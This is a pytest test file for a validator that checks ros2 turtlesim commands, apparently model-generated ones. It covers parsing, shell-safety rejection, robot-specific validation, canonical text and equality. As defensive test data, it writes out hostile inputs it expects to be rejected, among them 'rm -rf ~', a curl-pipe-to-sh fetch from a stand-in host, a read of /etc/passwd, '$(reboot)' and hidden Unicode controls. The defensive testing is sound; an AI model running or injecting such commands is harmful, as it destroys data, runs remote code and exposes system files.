# Copyright 2026 The ros2_prompt_tuning Authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""The command validator: safe-to-paste rules, parsing, validation, canonical text, equality."""

import json
from pathlib import Path
import re

import pytest
from ros2_prompt_tuning.robot import RobotDescription
from ros2_prompt_tuning.validator import (canonical, check_line, Command, CommandError,
                                          parse_command, same_command, UNSUPPORTED, validate)

DATA_DIR = Path(__file__).resolve().parent.parent / 'data' / 'turtlesim'
DATA_COMMANDS = sorted({json.loads(line)['command']
                        for path in sorted(DATA_DIR.glob('*.jsonl'))
                        for line in path.read_text(encoding='utf-8').splitlines() if line.strip()})
TWIST = 'geometry_msgs/msg/Twist'
PUB = f'ros2 topic pub --once /turtle1/cmd_vel {TWIST} '
MOVE = PUB + '"{linear: {x: 2.0, y: 0.0, z: 0.0}, angular: {x: 0.0, y: 0.0, z: 0.0}}"'
PEN = 'ros2 service call /turtle1/set_pen turtlesim/srv/SetPen "{{{}}}"'
SPEC_EXAMPLES = [
    MOVE,
    PUB + '"{linear: {x: 0.0, y: 0.0, z: 0.0}, angular: {x: 0.0, y: 0.0, z: -0.7854}}"',
    'ros2 service call /spawn turtlesim/srv/Spawn "{x: 3.0, y: 4.0, theta: 0.0, name: \'leo\'}"',
    'ros2 action send_goal /turtle1/rotate_absolute turtlesim/action/RotateAbsolute '
    '"{theta: 1.5708}"',
    'ros2 service call /clear std_srvs/srv/Empty',
    'ros2 param set /turtlesim background_r 0',
    'UNSUPPORTED',
]


def twist(x=0.0, z=0.0, option='--once'):
    return (f'ros2 topic pub {option} /turtle1/cmd_vel {TWIST} "{{linear: {{x: {x}, y: 0.0, '
            f'z: 0.0}}, angular: {{x: 0.0, y: 0.0, z: {z}}}}}"')


def problems_of(line):
    return validate(parse_command(line))


# --- accepted: the spec and the data set ----------------------------------------------------

@pytest.mark.parametrize('line', SPEC_EXAMPLES)
def test_spec_examples_are_valid_and_canonical(line):
    assert check_line(line) == (True, '')
    assert canonical(line) == line


def test_data_set_is_not_empty():
    assert len(DATA_COMMANDS) > 300 and UNSUPPORTED in DATA_COMMANDS


@pytest.mark.parametrize('line', DATA_COMMANDS)
def test_data_set_commands_are_valid_and_canonical(line):
    assert check_line(line) == (True, '')
    assert canonical(parse_command(line)) == line


# --- parsing --------------------------------------------------------------------------------

@pytest.mark.parametrize('option, expected', [
    ('--once', {'once': True}), ('-1', {'once': True}),
    ('--rate 1', {'rate': 1.0}), ('-r 2.5', {'rate': 2.5}), ('--rate=0.5', {'rate': 0.5}),
    ('--times 3', {'times': 3}), ('-t 4', {'times': 4}), ('--times=5', {'times': 5}),
])
def test_publish_options_are_normalised(option, expected):
    command = parse_command(f'ros2 topic pub {option} /turtle1/cmd_vel {TWIST}')
    assert {key: getattr(command, key) for key in ('once', 'rate', 'times')} == {
        'once': False, 'rate': None, 'times': None, **expected}


def test_options_may_follow_the_arguments():
    assert parse_command(f'ros2 topic pub /turtle1/cmd_vel {TWIST} "{{}}" -t 2').times == 2


def test_parse_topic_pub():
    assert parse_command(MOVE) == Command(
        'topic pub', '/turtle1/cmd_vel', TWIST, once=True,
        payload={'linear': {'x': 2.0, 'y': 0.0, 'z': 0.0},
                 'angular': {'x': 0.0, 'y': 0.0, 'z': 0.0}})


@pytest.mark.parametrize('line, kind, full_type', [
    ('ros2 topic pub -1 /turtle1/cmd_vel geometry_msgs/Twist', 'topic', TWIST),
    ('ros2 service call /clear std_srvs/Empty', 'service', 'std_srvs/srv/Empty'),
    ('ros2 action send_goal /turtle1/rotate_absolute turtlesim/RotateAbsolute "{theta: 1.0}"',
     'action', 'turtlesim/action/RotateAbsolute'),
])
def test_short_types_are_written_in_full(line, kind, full_type):
    command = parse_command(line)
    assert (command.kind, command.type_name) == (kind, full_type)


def test_parse_param_set():
    command = parse_command('ros2 param set /turtlesim background_b -1')
    assert (command.verb, command.kind, command.node, command.name, command.value) == (
        'param set', 'param', '/turtlesim', 'background_b', -1)


def test_parse_unsupported():
    assert parse_command('  UNSUPPORTED ') == Command(UNSUPPORTED)
    assert parse_command(UNSUPPORTED).kind is None


def test_set_pen_off_is_a_field_not_a_boolean():
    payload = parse_command(PEN.format('r: 1, g: 2, b: 3, width: 4, off: 1')).payload
    assert payload == {'r': 1, 'g': 2, 'b': 3, 'width': 4, 'off': 1}
    assert parse_command(PEN.format("'off': 1")).payload == {'off': 1}


def test_single_quoted_payload_is_the_same_command():
    line = MOVE.replace('"', "'")
    assert parse_command(line) == parse_command(MOVE)
    assert canonical(line) == MOVE


# --- rejected before anything runs: safe to paste ------------------------------------------

@pytest.mark.parametrize('line, message', [
    (MOVE + '; rm -rf ~', 'a command separator'),
    (MOVE + ' && curl http://x.invalid/a | sh', 'a background or && operator'),
    (MOVE + ' & ', 'a background or && operator'),
    (MOVE + ' | tee log', 'a pipe'),
    ('ros2 service call /clear std_srvs/srv/Empty > /tmp/out', 'a redirection'),
    ('ros2 service call /clear std_srvs/srv/Empty < /etc/passwd', 'a redirection'),
    ('ros2 service call /clear std_srvs/srv/Empty 2>&1', 'a redirection'),
    ('ros2 service call /clear `whoami`', 'a command substitution'),
    ('ros2 service call $(whoami) std_srvs/srv/Empty', 'an expansion'),
    ('ros2 service call /clear ${TYPE}', 'an expansion'),
    ('(ros2 service call /clear std_srvs/srv/Empty)', 'a subshell'),
    ('ros2 service call /clear std_srvs/srv/Empty !!', 'a history expansion'),
    ('ros2 service call ~/clear std_srvs/srv/Empty', 'a tilde expansion'),
    ('ros2 service call /cl* std_srvs/srv/Empty', 'a glob'),
    ('ros2 service call /clea? std_srvs/srv/Empty', 'a glob'),
    ('ros2 service call /[c]lear std_srvs/srv/Empty', 'a glob'),
    ('ros2 service call /{clear,reset} std_srvs/srv/Empty', 'a brace expansion'),
    ('ros2 service call /clear std_srvs/srv/Empty # comment', 'a comment'),
    ('ros2 service call /clear std_srvs/srv/Empty \\', 'an escape'),
    (PUB + '"{linear: {x: $(reboot)}}"', 'an expansion) inside double quotes'),
    (PUB + '"{linear: {x: $X}}"', 'an expansion) inside double quotes'),
    (PUB + '"{linear: {x: `reboot`}}"', 'a command substitution) inside double quotes'),
    (PUB + '"{linear: {x: !!float 1}}"', 'a history expansion) inside double quotes'),
    (PUB + '"{linear: {x: \\"1\\"}}"', 'an escape) inside double quotes'),
    (MOVE + '\nros2 service call /clear std_srvs/srv/Empty', 'a line break'),
    ('ros2 service call /clear std_srvs/srv/Empty\n', 'a line break'),
    ('ros2 service call /clear std_srvs/srv/Empty\rrm x', 'a line break'),
    ('ros2 service call /clear std_srvs/srv/Empty\u2028rm x', '(U+2028)'),
    ('ros2 service call /clear std_srvs/srv/Empty\u2029rm x', '(U+2029)'),
    ('ros2 service call /clear\tstd_srvs/srv/Empty', 'a control character (U+0009)'),
    ('ros2 service call /clear std_srvs/srv/Empty\x1b[2J', 'a control character (U+001B)'),
    ('ros2 service call /clear\u00a0std_srvs/srv/Empty', 'a space other than the plain space'),
    ('ros2 service call /spawn turtlesim/srv/Spawn "{name: \'le\ue000o\'}"', 'private-use'),
    ('ros2 service call /clear std_srvs/srv/Empty "', 'unterminated " quote'),
    ("ros2 service call /kill turtlesim/srv/Kill \"{name: 'leo}", 'unterminated " quote'),
])
def test_unsafe_lines_are_rejected(line, message):
    with pytest.raises(CommandError, match=re.escape(message)):
        parse_command(line)
    ok, reason = check_line(line)
    assert not ok and message in reason


@pytest.mark.parametrize('character', ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff'])
@pytest.mark.parametrize('where', ['start', 'name', 'quoted'])
def test_zero_width_characters_are_rejected_anywhere(character, where):
    line = {'start': character + MOVE, 'name': MOVE.replace('turtle1', 'turtle' + character),
            'quoted': MOVE.replace('x: 2.0', 'x: 2.0' + character)}[where]
    assert check_line(line)[0] is False
    assert f'a zero-width character (U+{ord(character):04X})' in check_line(line)[1]


@pytest.mark.parametrize('character', ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e',
                                       '\u2066', '\u2067', '\u2068', '\u2069'])
def test_bidirectional_characters_are_rejected(character):
    line = f'ros2 service call /kill turtlesim/srv/Kill "{{name: \'{character}leo\'}}"'
    with pytest.raises(CommandError, match='a bidirectional control character'):
        parse_command(line)


# --- rejected: not one of the four forms ----------------------------------------------------

@pytest.mark.parametrize('line, message', [
    ('', 'the line is empty'),
    ('   ', 'the line is empty'),
    ('UNSUPPORTED please', 'UNSUPPORTED must stand alone'),
    ('unsupported', 'not a ros2 command'),
    ('rm -rf /tmp/x', 'not a ros2 command'),
    ('sudo ros2 service call /clear std_srvs/srv/Empty', 'not a ros2 command'),
    ('ros2 topic echo /turtle1/pose', '"ros2 topic echo" is not one of the allowed forms'),
    ('ros2 run turtlesim turtlesim_node', '"ros2 run turtlesim" is not one'),
    ('ros2', '"ros2 " is not one of the allowed forms'),
    (f'ros2 topic pub /turtle1/cmd_vel {TWIST}', 'needs exactly one of --once'),
    (f'ros2 topic pub --once --times 2 /turtle1/cmd_vel {TWIST}', 'needs exactly one of'),
    (f'ros2 topic pub --rate 1 -r 2 /turtle1/cmd_vel {TWIST}', '--rate is given twice'),
    (f'ros2 topic pub -w 1 --once /turtle1/cmd_vel {TWIST}', "unsupported option '-w'"),
    (f'ros2 topic pub --once=1 /turtle1/cmd_vel {TWIST}', '--once takes no value'),
    (f'ros2 topic pub --rate fast /turtle1/cmd_vel {TWIST}', "--rate needs a number, got 'fast'"),
    (f'ros2 topic pub /turtle1/cmd_vel {TWIST} --rate', '--rate needs a number, got None'),
    (f'ros2 topic pub --times 2.5 /turtle1/cmd_vel {TWIST}', '--times needs a whole number'),
    ('ros2 service call -r 1 /clear std_srvs/srv/Empty', 'this form takes no options'),
    ('ros2 action send_goal -f /turtle1/rotate_absolute turtlesim/action/RotateAbsolute '
     '"{theta: 1.0}"', 'this form takes no options'),
    ('ros2 action send_goal /turtle1/rotate_absolute turtlesim/action/RotateAbsolute',
     'takes NAME TYPE "YAML", got 2 arguments'),
    ('ros2 service call /clear', 'takes NAME TYPE ["YAML"], got 1 arguments'),
    ('ros2 service call /clear std_srvs/srv/Empty "{}" ros2 service call /reset',
     'got 7 arguments'),
    ('ros2 param set /turtlesim background_r', 'takes exactly NODE NAME VALUE'),
    ('ros2 param set turtlesim background_r 0', "'turtlesim' is not a fully qualified node"),
    ('ros2 param set /turtlesim 9lives 0', "'9lives' is not a parameter name"),
    (f'ros2 topic pub --once turtle1/cmd_vel {TWIST}', 'not a fully qualified topic name'),
    (f'ros2 topic pub --once /turtle1//cmd_vel {TWIST}', 'not a fully qualified topic name'),
    ('ros2 service call /clear Empty', "'Empty' is not an interface type"),
    ('ros2 service call /clear std_srvs/srvs/Empty', 'is not an interface type'),
])
def test_lines_outside_the_four_forms_are_rejected(line, message):
    ok, reason = check_line(line)
    assert not ok and message in reason


@pytest.mark.parametrize('payload, message', [
    ('{linear: {x: 1.0}', 'the payload is not valid YAML'),
    ('{linear: {x: 1.0}}}', 'the payload is not valid YAML'),
    ('{linear: [1.0}', 'the payload is not valid YAML'),
    ('{linear: {x: 1.0}, linear: {x: 2.0}}', "duplicate key 'linear'"),
    ('', 'the payload must be one YAML flow mapping'),
    ('linear: {x: 1.0}', 'the payload must be one YAML flow mapping'),
    ('[1.0, 2.0]', 'the payload must be one YAML flow mapping'),
    ('{linear: {x: 1.0}} # note', 'the payload must be one YAML flow mapping'),
    ('{linear: &v {x: 1.0}, angular: *v}', 'the payload may not use YAML anchors (&)'),
    ('{linear: {x: 1.0}, angular: *v}', 'the payload may not use YAML aliases (*)'),
    ('{linear: !!map {x: 1.0}}', 'the payload may not use YAML tags (!)'),
    ('{linear: {x: !!float 1}}', 'the payload may not use YAML tags (!)'),
])
def test_payloads_that_are_not_plain_flow_mappings_are_rejected(payload, message):
    # Single quotes keep bash from reading "!" so that the YAML check itself is exercised.
    ok, reason = check_line(f"{PUB}'{payload}'")
    assert not ok and message in reason


# --- validation against the robot -----------------------------------------------------------

@pytest.mark.parametrize('line, problem', [
    (PUB + '"{linear: {x: 1.0, w: 2.0}}"',
     'geometry_msgs/msg/Vector3 has no field linear.w (its fields: x, y, z)'),
    (PUB + '"{forward: 1.0}"', f'{TWIST} has no field forward (its fields: linear, angular)'),
    (PUB + '"{linear: 1.0}"', 'linear must be a mapping of the fields of '
                              'geometry_msgs/msg/Vector3'),
    (PUB + '"{linear: {x: fast}}"', "linear.x must be a number, not 'fast'"),
    (PUB + '"{linear: {x: \'1.0\'}}"', "linear.x must be a number, not '1.0'"),
    (PUB + '"{linear: {x: true}}"', 'linear.x must be a number, not True'),
    (PUB + '"{linear: {x: off}}"', "linear.x must be a number, not 'off'"),
    (PUB + '"{linear: {x: null}}"', 'linear.x must be a number, not None'),
    (PUB + '"{linear: {x: .inf}}"', 'linear.x must be a finite number, not inf'),
    (PEN.format('r: 256'), 'r must be between 0 and 255, not 256'),
    (PEN.format('g: -1'), 'g must be between 0 and 255, not -1'),
    (PEN.format('r: 1.5'), 'r must be a whole number, not 1.5'),
    (PEN.format('r: 255.0'), 'r must be a whole number, not 255.0'),
    (PEN.format('width: 0'), 'width must be between 1 and 255, not 0'),
    (PEN.format('off: 2'), 'off must be between 0 and 1, not 2'),
    (PEN.format('r: 1, g: 2, b: 3'), 'width must be between 1 and 255, not 0 (omitted, so zero)'),
    (PEN.format('off: true'), 'off must be a whole number, not True'),
    ('ros2 service call /kill turtlesim/srv/Kill "{name: 5}"', 'name must be a string, not 5'),
    ("ros2 service call /kill turtlesim/srv/Kill '{name: \"$HOME\"}'",
     'name contains a character that cannot be written safely in a command'),
    ("ros2 service call /kill turtlesim/srv/Kill '{name: \"\\u202eleo\"}'",
     'name contains a character that cannot be written safely in a command'),
    ("ros2 service call /kill turtlesim/srv/Kill '{name: \"le\\no\"}'",
     'name contains a character that cannot be written safely in a command'),
    ('ros2 service call /clear std_srvs/srv/Empty "{x: 1}"',
     'std_srvs/srv/Empty has no field x (it has no fields)'),
    ('ros2 param set /turtlesim background_r -1', 'background_r must be between 0 and 255'),
    ('ros2 param set /turtlesim background_g 256', 'background_g must be between 0 and 255'),
    ('ros2 param set /turtlesim background_b 0.5', 'background_b must be a whole number'),
    ('ros2 param set /turtlesim background_b blue',
     "background_b must be a whole number, not 'blue'"),
    ('ros2 param set /turtlesim background_x 0', 'turtlesim has no parameter background_x on '
                                                 'node /turtlesim (known: /turtlesim '
                                                 'background_r, '),
    ('ros2 param set /turtle1 background_r 0', 'has no parameter background_r on node /turtle1'),
    (f'ros2 topic pub --once /turtle1/pose {TWIST}',
     'turtlesim has no topic /turtle1/pose (known: /<turtle>/cmd_vel)'),
    ('ros2 service call /turtle1/clear std_srvs/srv/Empty', 'turtlesim has no service '
                                                            '/turtle1/clear (known: /clear, '),
    ('ros2 action send_goal /turtle1/move turtlesim/action/RotateAbsolute "{theta: 1.0}"',
     'turtlesim has no action /turtle1/move'),
    ('ros2 topic pub --once /turtle1/cmd_vel geometry_msgs/msg/Twist2',
     '/turtle1/cmd_vel has the type geometry_msgs/msg/Twist, not geometry_msgs/msg/Twist2'),
    ('ros2 service call /clear std_srvs/srv/Trigger', 'not std_srvs/srv/Trigger'),
    ('ros2 service call /spawn turtlesim/msg/Spawn', 'not turtlesim/msg/Spawn'),
    (f'ros2 topic pub --rate 0 /turtle1/cmd_vel {TWIST}', '--rate must be greater than 0'),
    (f'ros2 topic pub --rate -2 /turtle1/cmd_vel {TWIST}', '--rate must be greater than 0'),
    (f'ros2 topic pub --times 0 /turtle1/cmd_vel {TWIST}', '--times must be at least 1, not 0'),
])
def test_invalid_commands_are_reported(line, problem):
    problems = problems_of(line)
    assert any(problem in text for text in problems), problems
    ok, reason = check_line(line)
    assert not ok and problem in reason


def test_every_problem_is_reported():
    problems = problems_of(PEN.format('r: 256, g: 0, b: 0, width: 0, off: 2, colour: 1'))
    assert len(problems) == 4


@pytest.mark.parametrize('line', [
    PUB.strip(),
    PUB + '"{}"',
    PUB + '"{angular: {z: 1}}"',
    PEN.format('r: 255, g: 0, b: 0, width: 255, off: 0'),
    'ros2 service call /clear std_srvs/srv/Empty "{}"',
    'ros2 service call /spawn turtlesim/Spawn',
    'ros2 param set /turtlesim background_g 255',
])
def test_partial_and_short_commands_are_valid(line):
    assert problems_of(line) == []


def test_unsupported_is_valid():
    assert validate(Command(UNSUPPORTED)) == []
    assert check_line('UNSUPPORTED') == (True, '')


# --- canonical text -------------------------------------------------------------------------

@pytest.mark.parametrize('line, expected', [
    ('ros2 topic pub -1 /turtle1/cmd_vel geometry_msgs/Twist "{angular: {z: 1}}"',
     twist(z=1.0)),
    (f'ros2 topic pub -r 1.0 /turtle1/cmd_vel {TWIST}', twist(option='--rate 1')),
    (f'ros2 topic pub --rate=2.5 /turtle1/cmd_vel {TWIST}', twist(option='--rate 2.5')),
    (f'ros2 topic pub -t 3 /turtle1/cmd_vel {TWIST}', twist(option='--times 3')),
    (f'ros2 topic pub -1 /turtle1/cmd_vel {TWIST} "{{linear: {{x: 1.0e+20}}, angular: '
     '{z: -1.5e-05}}"', twist(x='100000000000000000000.0', z='-0.000015')),
    ('ros2 service call /spawn turtlesim/Spawn "{name: \'o\'\'neil\', x: 1}"',
     'ros2 service call /spawn turtlesim/srv/Spawn "{x: 1.0, y: 0.0, theta: 0.0, '
     'name: \'o\'\'neil\'}"'),
    ('ros2 service call /reset std_srvs/Empty "{}"',
     'ros2 service call /reset std_srvs/srv/Empty'),
    (PEN.format("'off': 1, width: 3"), PEN.format('r: 0, g: 0, b: 0, width: 3, off: 1')),
    ('ros2 param set /turtlesim background_r 07', 'ros2 param set /turtlesim background_r 7'),
    ('  UNSUPPORTED', 'UNSUPPORTED'),
])
def test_canonical_text(line, expected):
    assert canonical(line) == expected
    assert canonical(expected) == expected


def test_canonical_rejects_an_invalid_command():
    with pytest.raises(CommandError, match='turtlesim has no topic /cmd_vel'):
        canonical(parse_command(f'ros2 topic pub --once /cmd_vel {TWIST}'))


# --- semantic equality ----------------------------------------------------------------------

@pytest.mark.parametrize('a, b', [
    (twist(x=1.0), twist(x=1.0, option='-1')),
    (twist(option='--rate 1'), twist(option='-r 1')),
    (twist(option='--rate 1'), twist(option='--rate 1.0')),
    (twist(option='--times 3'), twist(option='-t 3')),
    (twist(), twist().replace(TWIST, 'geometry_msgs/Twist')),
    ('ros2 service call /clear std_srvs/srv/Empty', 'ros2 service call /clear std_srvs/Empty'),
    (twist(x=1.0, z=0.5),
     PUB + '"{angular: {z: 0.5, y: 0.0, x: 0.0}, linear: {z: 0.0, y: 0.0, x: 1.0}}"'),
    (twist(x=1.0), PUB + '"{linear: {x: 1.0}}"'),
    (twist(x=1.0), PUB + '"{linear: {x: 1}}"'),
    (twist(), PUB.strip()),
    ('ros2 service call /spawn turtlesim/srv/Spawn "{x: 3.0, y: 4.0, theta: 0.0, name: \'\'}"',
     'ros2 service call /spawn turtlesim/srv/Spawn "{y: 4, x: 3}"'),
    (PEN.format('r: 179, g: 184, b: 255, width: 3, off: 1'),
     PEN.format("'off': 1, width: 3, b: 255, g: 184, r: 179")),
    ('ros2 service call /clear std_srvs/srv/Empty',
     'ros2 service call /clear std_srvs/Empty "{}"'),
    (UNSUPPORTED, ' UNSUPPORTED '),
    ('ros2 param set /turtlesim background_r 100', 'ros2 param set /turtlesim background_r 101'),
])
def test_equivalent_spellings_are_the_same_command(a, b):
    assert same_command(a, b)
    assert same_command(b, a)


@pytest.mark.parametrize('x, y, same', [
    (1.5708, 1.5708, True),
    (0.0, 0.01, True),            # 0.01 absolute
    (0.0, 0.0101, False),
    (0.5, 0.51, True),
    (0.5, 0.5101, False),
    (-0.7854, -0.7954, True),
    (-0.7854, -0.7955, False),
    (100.0, 101.0, True),         # 1 % of the larger value
    (100.0, 101.02, False),
    (-200.0, -202.0, True),
    (-200.0, -202.05, False),
    (2.0, -2.0, False),
])
def test_numbers_match_within_tolerance(x, y, same):
    assert same_command(twist(x=x), twist(x=y)) is same
    assert same_command(twist(z=y), twist(z=x)) is same


@pytest.mark.parametrize('a, b', [
    (twist(x=1.0), twist(z=1.0)),
    (twist(x=1.0), twist(x=1.0, option='--rate 1')),
    (twist(x=1.0, option='--times 3'), twist(x=1.0, option='--times 4')),
    (twist(option='--rate 1'), twist(option='--rate 2')),
    (twist(x=1.0), twist(x=1.0).replace('turtle1', 'turtle2')),
    ('ros2 service call /clear std_srvs/srv/Empty', 'ros2 service call /reset std_srvs/srv/Empty'),
    ("ros2 service call /kill turtlesim/srv/Kill \"{name: 'leo'}\"",
     "ros2 service call /kill turtlesim/srv/Kill \"{name: 'Leo'}\""),
    (PEN.format('off: 1'), PEN.format('off: 0')),
    ('ros2 param set /turtlesim background_r 0', 'ros2 param set /turtlesim background_g 0'),
    ('ros2 param set /turtlesim background_r 0', 'ros2 param set /turtlesim background_r 5'),
    (UNSUPPORTED, twist()),
    (UNSUPPORTED, 'UNSUPPORTED; reboot'),
    (twist(), twist() + ' && reboot'),
    (twist(), twist().replace(TWIST, 'turtlesim/msg/Pose')),
])
def test_different_commands_are_not_the_same(a, b):
    assert not same_command(a, b)
    assert not same_command(b, a)


def test_invalid_commands_equal_nothing():
    line = PEN.format('r: 256')
    assert not same_command(line, line)
    assert same_command(parse_command(twist(x=1.0)), twist(x=1.0))


# --- another robot: described by data only --------------------------------------------------

@pytest.fixture
def rover(tmp_path):
    path = tmp_path / 'rover.yaml'
    path.write_text('\n'.join([
        'name: rover',
        'topics:',
        '  - {name: /led, type: std_msgs/msg/Bool, fields: [{name: data, type: bool}]}',
        'parameters:',
        '  - {node: /driver, name: max_speed, type: double, min: 0.0, max: 2.0}',
        '  - {node: /driver, name: mode, type: string}',
        '  - {node: /driver, name: armed, type: bool}',
    ]), encoding='utf-8')
    return RobotDescription.load(path)


@pytest.mark.parametrize('line, expected', [
    ('ros2 topic pub --once /led std_msgs/Bool "{data: true}"',
     'ros2 topic pub --once /led std_msgs/msg/Bool "{data: true}"'),
    ('ros2 topic pub --once /led std_msgs/msg/Bool', 'ros2 topic pub --once /led '
                                                     'std_msgs/msg/Bool "{data: false}"'),
    ('ros2 param set /driver max_speed 1.5', 'ros2 param set /driver max_speed 1.5'),
    ('ros2 param set /driver mode fast', 'ros2 param set /driver mode fast'),
    ("ros2 param set /driver mode 'very fast'", "ros2 param set /driver mode 'very fast'"),
    ('ros2 param set /driver armed true', 'ros2 param set /driver armed true'),
])
def test_another_robot_is_validated_from_its_description(rover, line, expected):
    assert check_line(line, rover) == (True, '')
    assert canonical(line, rover) == expected


@pytest.mark.parametrize('line, problem', [
    ('ros2 topic pub --once /led std_msgs/msg/Bool "{data: 1}"', 'data must be true or false'),
    ('ros2 topic pub --once /led std_msgs/msg/Bool "{data: yes}"', 'data must be true or false'),
    ('ros2 param set /driver max_speed 1', 'max_speed must be a number with a decimal point'),
    ('ros2 param set /driver max_speed 2.5', 'max_speed must be between 0.0 and 2.0'),
    ('ros2 param set /driver mode 5', 'mode must be a string, not 5'),
    ('ros2 param set /driver armed on', "armed must be true or false, not 'on'"),
    (f'ros2 topic pub --once /turtle1/cmd_vel {TWIST}', 'rover has no topic /turtle1/cmd_vel'),
])
def test_another_robot_reports_problems(rover, line, problem):
    ok, reason = check_line(line, rover)
    assert not ok and problem in reason
